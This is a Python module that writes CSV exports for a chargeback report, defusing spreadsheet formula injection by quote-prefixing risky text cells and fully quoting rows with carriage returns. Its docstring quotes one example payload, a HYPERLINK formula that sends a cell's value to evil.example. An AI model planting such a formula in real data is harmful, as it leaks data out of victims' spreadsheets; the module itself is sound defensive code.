"""CSV text that a spreadsheet opens as data, never as formulas: the one writer of every CSV the
project makes (the chargeback export from the CLI and from the dashboard).

OWASP's rule: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is prefixed with ``'``, which spreadsheets read as "this is text" (and do not show). Group names
come from client headers (the repo is whatever ``x-switchyard-repo`` said), so a repo named
``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would otherwise run in finance's spreadsheet.

Only text cells are touched. Numbers (``int``, ``Decimal``) are written as numbers: a negative
cost stays ``-1.5`` so sums in the spreadsheet still work, and a number cannot carry a formula.
The cell's Python type decides, not its text, so a repo literally named ``-5`` comes out ``'-5``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
Cell = str | int | Decimal


def inert_text(text: str) -> str:
    """``text`` as a cell no spreadsheet evaluates."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _cell(value: Cell) -> str:
    if isinstance(value, bool):  # a bool is an int to Python, but it is not a number here
        return inert_text(str(value))
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    return inert_text(value)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A header, then one line per row ("\\n" line ends, RFC 4180 quoting), every text cell inert."""
    buffer = io.StringIO()
    plain = csv.writer(buffer, lineterminator="\n")
    # The csv module quotes a field only for the characters of *its* line terminator, so with "\n"
    # a bare CR inside a name would be written unquoted, and a spreadsheet would start a new row
    # (whose first cell could be a formula) there. A row with a CR anywhere is written all quoted.
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for line in ([inert_text(name) for name in header], *([_cell(value) for value in row] for row in rows)):
        (quoted if any("\r" in cell for cell in line) else plain).writerow(line)
    return buffer.getvalue()
